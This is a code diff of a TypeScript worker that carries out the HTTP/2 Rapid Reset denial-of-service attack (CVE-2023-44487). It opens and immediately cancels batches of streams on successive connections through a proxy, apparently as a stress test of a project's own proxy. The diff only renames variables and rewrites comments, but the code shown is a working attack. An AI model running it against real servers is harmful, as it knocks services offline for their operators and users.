@@ -3,24 +3,24 @@ import { parentPort, workerData } from 'node:worker_threads'
 import { openHttp2 } from './connect-to-proxy.ts'
 import { SITE_NAME } from './host-names.ts'
 
-const STREAMS_AT_ONCE = 20
+const STREAMS_PER_ROUND = 20
 
 interface Attack {
   readonly httpsPort: number
-  /** The address it comes from. */
+  /** Source address. */
   readonly from: string
-  readonly forMs: number
+  readonly durationMs: number
 }
 
 /**
- * Rapid reset, in a worker thread: opens streams and resets each at once, on one connection after the other. Posts how
- * many streams it opened.
+ * Rapid reset (CVE-2023-44487) in a worker thread: opens streams and resets them immediately, on successive connections.
+ * Posts the number of streams.
  */
 // oxlint-disable-next-line unicorn/require-post-message-target-origin -- The port of a worker has no origin.
 parentPort?.postMessage(await resetRapidly(workerData as Attack))
 
 async function resetRapidly(attack: Attack): Promise<number> {
-  const end = performance.now() + attack.forMs
+  const end = performance.now() + attack.durationMs
   let opened = 0
   while (performance.now() < end) opened += await resetOnOneConnection(attack, end)
   return opened
@@ -33,11 +33,11 @@ async function resetOnOneConnection(attack: Attack, end: number): Promise<number
   await new Promise((resolve) => session.once('connect', resolve).once('close', resolve))
   while (!isOver()) {
     const some: ClientHttp2Stream[] = []
-    for (let stream = 0; stream < STREAMS_AT_ONCE && !isOver(); stream++)
+    for (let stream = 0; stream < STREAMS_PER_ROUND && !isOver(); stream++)
       some.push(session.request({ ':path': '/about-us', ':authority': SITE_NAME }).on('error', () => {}))
     opened += some.length
-    // Half of them only when they have been sent: by then the proxy may have passed them on.
-    if (opened % (2 * STREAMS_AT_ONCE) === 0) await new Promise((resolve) => setImmediate(resolve))
+    // Half of the streams are reset after they were sent, when the proxy may have forwarded them.
+    if (opened % (2 * STREAMS_PER_ROUND) === 0) await new Promise((resolve) => setImmediate(resolve))
     for (const stream of some) stream.close(constants.NGHTTP2_CANCEL)
     await new Promise((resolve) => setImmediate(resolve))
   }
